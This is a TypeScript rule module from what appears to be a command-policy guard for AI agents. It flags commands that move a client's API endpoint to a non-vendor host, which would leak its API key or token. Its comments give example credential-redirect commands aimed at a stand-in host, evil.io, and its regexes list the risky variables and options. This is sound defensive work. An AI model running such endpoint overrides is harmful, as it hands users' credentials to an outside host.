import { ownTable } from '../../ownTable';
import { isLoopbackHost } from '../../policy/production';
import type { Finding, Invocation, RuleContext } from '../../policy/types';
import { invocationCommand, toolArgs } from '../../registry/commandModel';
import { freeFormReadings } from '../../registry/freeForm';
import { agentOf } from '../perimeter/guardLaunch';
import { SESSION_EXPORTERS, sourceChange } from './packageSources';

/**
 * A client's API address moved to another host, for one run: `ANTHROPIC_BASE_URL=https://evil.io
 * claude -p hi`, `HF_ENDPOINT=… huggingface-cli whoami`, `CLOUDSDK_API_ENDPOINT_OVERRIDES_COMPUTE=…
 * gcloud …`, `helm --kube-apiserver https://evil.io list`. The client presents what it signs in with
 * (an API key, an OAuth token, a kubeconfig bearer token) to whatever answers there. A loopback
 * address (a local proxy or a stand-in) and the vendor's own hosts stay allowed; any other host asks,
 * and is treated as production (nothing says what it is).
 */

/** Providers whose clients read a key or a token of theirs from the environment or their own store. */
const PROVIDERS = 'ANTHROPIC|CLAUDE_CODE|OPENAI|AZURE_OPENAI|CODEX|GEMINI|GOOGLE_GEMINI|GOOGLE_AI|GOOGLE_VERTEX|CODE_ASSIST|VERTEX_?AI|AMP|KIMI|MOONSHOT|DASHSCOPE|LITELLM|MISTRAL|GROQ|COHERE|DEEPSEEK|OPENROUTER|XAI|TOGETHER|FIREWORKS|PERPLEXITY|REPLICATE|HF|HUGGING_?FACE|HUGGINGFACE_HUB|CLOUDSDK|AWS|GITHUB|GH|GITLAB|GLAB|COPILOT|CURSOR|VAULT|DATABRICKS|SENTRY|STRIPE|VERCEL|NETLIFY|CLOUDFLARE|DIGITALOCEAN|LINEAR|NPM_CONFIG';
/** The variable names that say where such a client connects. */
const ENDPOINT_VARIABLE = new RegExp(`^(${PROVIDERS})(_[A-Z0-9]+)*?_(BASE_?URL|API_?BASE|API_?URL|API_?HOST|ENDPOINT(_URL)?|ENDPOINT_OVERRIDES_[A-Z0-9_]+|HOST|ADDR|SERVER_URL|URL|REGISTRY)$`);
/** AWS's per-service and global endpoint variables. */
const AWS_ENDPOINT = /^AWS_ENDPOINT_URL(_[A-Z0-9_]+)?$/;

/** The vendors' own API hosts: the address a client uses anyway. */
const VENDOR_HOSTS = /(^|\.)(anthropic\.com|claude\.ai|openai\.com|openai\.azure\.com|azure\.com|googleapis\.com|google\.com|huggingface\.co|hf\.co|amazonaws\.com|aws\.dev|github\.com|githubusercontent\.com|gitlab\.com|mistral\.ai|groq\.com|cohere\.(ai|com)|deepseek\.com|openrouter\.ai|x\.ai|together\.(ai|xyz)|fireworks\.ai|perplexity\.ai|replicate\.com|npmjs\.org|npmjs\.com|sentry\.io|stripe\.com|vercel\.com|netlify\.com|cloudflare\.com|digitalocean\.com|linear\.app|databricks\.com)$/i;

function hostOf(value: string): string | undefined {
  const m = /^[a-z][a-z0-9+.-]*:\/\/(?:[^@/]*@)?(\[[^\]]+\]|[^:/?#]+)/i.exec(value.trim());
  return m ? m[1]!.toLowerCase() : /^[\w.-]+(:\d+)?$/.test(value.trim()) ? value.trim().replace(/:\d+$/, '').toLowerCase() : undefined;
}

/** The host a variable named like a client's API address (`ANTHROPIC_BASE_URL`, `AWS_ENDPOINT_URL_S3`) sends to, when it is not the vendor's or this machine. */
export function movedEndpoint(name: string, value: string): string | undefined {
  return ENDPOINT_VARIABLE.test(name) || AWS_ENDPOINT.test(name) ? outsideHost(value) : undefined;
}

/** Why sending to `value` hands a credential out, or undefined when it does not. */
export function outsideHost(value: string): string | undefined {
  if (/[$`]/.test(value)) return 'an address computed at run time';
  const host = hostOf(value);
  if (host === undefined || host === '' || isLoopbackHost(host, { dockerHost: true }) || host.endsWith('.localhost') || VENDOR_HOSTS.test(host)) return undefined;
  return host;
}

function finding(inv: Invocation, how: string, value: string, host: string): Finding {
  return {
    rule: 'credentialRoutes.endpoint-override',
    risk: 'credential-use',
    severity: 'ask',
    reason: `${inv.name} runs with ${how} set to ${value.slice(0, 120)}: its API key or token is presented to ${host}, not to its vendor's service.`,
    targets: [{ kind: 'url', name: host, remote: true, environment: 'production', environmentReason: 'a host named only on this command line — treated as production' }],
  };
}

/** Kubernetes clients whose API server option replaces the kubeconfig's cluster but keeps its user (kubectl's `-s` is judged in containers.ts), read through their registry entries. */
const KUBE_SERVER_OPTIONS: Readonly<Record<string, { server: readonly string[]; ownCredential: readonly string[] }>> = ownTable({
  helm: { server: ['--kube-apiserver'], ownCredential: ['--kube-token', '--kubeconfig'] },
});

/**
 * The same move kept in a client's settings for every later run (`aws configure set
 * [profile.NAME.|SERVICE.]endpoint_url URL`, `gcloud config set api_endpoint_overrides/SERVICE URL`),
 * and `docker login` against a daemon elsewhere (`DOCKER_HOST=tcp://…`, `-H`): the password goes to that daemon.
 */
function savedEndpoint(inv: Invocation): Finding | undefined {
  if (inv.name !== 'aws' && inv.name !== 'gcloud' && inv.name !== 'docker' && inv.name !== 'podman') return undefined;
  const command = invocationCommand(inv);
  if (!command) return undefined;
  const words = [...command.parsed.path, ...command.parsed.operands.map((o) => o.text)];
  const set = words[0] === 'configure' && words[1] === 'set' ? 2 : words[0] === 'config' && words[1] === 'set' ? 2 : -1;
  if (set > 0) {
    const key = words[set] ?? '';
    const value = words[set + 1];
    const moves = inv.name === 'aws' ? /(^|\.)endpoint_url$/.test(key) : /^api_endpoint_overrides\/[\w-]+$/.test(key);
    const host = moves && value !== undefined ? outsideHost(value) : undefined;
    return host ? finding(inv, `the setting ${key} (kept for every later run)`, value!, host) : undefined;
  }
  if ((inv.name === 'docker' || inv.name === 'podman') && words[0] === 'login') {
    const args = toolArgs(inv.name, command.parsed, command.tool);
    const daemon = args.value('-H', '--host', '--url') ?? inv.assignments.DOCKER_HOST ?? inv.assignments.CONTAINER_HOST;
    const host = daemon !== undefined ? outsideHost(daemon.replace(/^(tcp|ssh|unix|npipe):\/\//, 'x://')) : undefined;
    if (daemon !== undefined && host) return finding(inv, 'the daemon address', daemon, host);
  }
  return undefined;
}

/** Agents' own options that name the API address: aider's `--openai-api-base`, open-interpreter's `--api_base`, and the like. */
const AGENT_ADDRESS_OPTION = /^--(openai[-_]api[-_]base|anthropic[-_]api[-_]base|api[-_]base|base[-_]url|api[-_]url|openai[-_]base[-_]url|endpoint)$/;
/** Codex's `-c KEY=VALUE` keys that name where a model provider is reached. */
const CODEX_ADDRESS_KEY = /(^|\.)(base_url|openai_base_url|chatgpt_base_url)$/;

/**
 * An agent started with its model's address on the command line: `codex -c
 * model_providers.x.base_url=https://…`, `aider --openai-api-base https://…`, `aider --set-env
 * OPENAI_API_BASE=https://…`: its API key goes there for this run.
 */
function agentEndpointOption(inv: Invocation): Finding | undefined {
  const found = agentOf(inv);
  if (!found) return undefined;
  if (found.agent === 'codex' && inv.name === 'codex') {
    const command = invocationCommand(inv);
    const settings = command ? toolArgs(inv.name, command.parsed, command.tool).values('-c', '--config') : [];
    for (const setting of settings) {
      const m = /^([\w.-]+)\s*=\s*["']?([^"']*)["']?$/.exec(setting);
      const host = m && CODEX_ADDRESS_KEY.test(m[1]!) ? outsideHost(m[2]!) : undefined;
      if (host) return finding(inv, `-c ${m![1]}`, m![2]!, host);
    }
    return undefined;
  }
  for (const option of freeFormReadings(found.args).valued.options) {
    const value = option.values[0];
    if (value === undefined) continue;
    const set = option.name === '--set-env' ? /^(\w+)=(.*)$/.exec(value) : undefined;
    const host = set ? movedEndpoint(set[1]!, set[2]!) : AGENT_ADDRESS_OPTION.test(option.name) ? outsideHost(value) : undefined;
    if (host) return finding(inv, set ? set[1]! : option.name, set ? set[2]! : value, host);
  }
  return undefined;
}

/** `export AWS_ENDPOINT_URL=https://…`, `export ANTHROPIC_BASE_URL=…`: every later command of the session sends its signed requests there. */
function exportedEndpoint(inv: Invocation): Finding | undefined {
  if (!SESSION_EXPORTERS.has(inv.name)) return undefined;
  for (const a of inv.args) {
    const m = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(a.text);
    // A package registry (`NPM_CONFIG_REGISTRY`) is a source, judged by the source-redirects pack.
    const host = m && sourceChange(m[1]!, m[2]!) === undefined ? movedEndpoint(m[1]!, m[2]!) : undefined;
    if (host) {
      return {
        rule: 'credentialRoutes.endpoint-override',
        risk: 'credential-use',
        severity: 'ask',
        reason: `${inv.name} sets ${m![1]} to ${m![2]!.slice(0, 120)} for every later command of the session: each client that reads it presents its API key or token to ${host}, not to its vendor's service.`,
        targets: [{ kind: 'url', name: host, remote: true, environment: 'production', environmentReason: 'a host named only on this command line — treated as production' }],
      };
    }
  }
  return undefined;
}

export function checkEndpointOverrides(inv: Invocation, _ctx: RuleContext): Finding[] {
  if (inv.remote) return [];
  const saved = savedEndpoint(inv) ?? agentEndpointOption(inv) ?? exportedEndpoint(inv);
  if (saved) return [saved];
  const out: Finding[] = [];
  for (const [name, value] of Object.entries(inv.assignments)) {
    if (!ENDPOINT_VARIABLE.test(name) && !AWS_ENDPOINT.test(name)) continue;
    // gh keeps one login per host and sends GH_TOKEN to github.com only: with GH_HOST it presents that
    // host's own login or GH_ENTERPRISE_TOKEN, which `credentialEndpoints.ts` judges.
    if (name === 'GH_HOST' && inv.name === 'gh') continue;
    const host = outsideHost(value);
    if (host) out.push(finding(inv, name, value, host));
    if (out.length > 0) return out;
  }
  const kube = KUBE_SERVER_OPTIONS[inv.name];
  const command = kube ? invocationCommand(inv) : undefined;
  if (kube && command) {
    const args = toolArgs(inv.name, command.parsed, command.tool);
    if (args.has(...kube.ownCredential)) return out;
    const value = args.value(...kube.server);
    const host = value !== undefined ? outsideHost(value) : undefined;
    if (value !== undefined && host) out.push(finding(inv, kube.server[0]!, value, host));
  }
  return out;
}
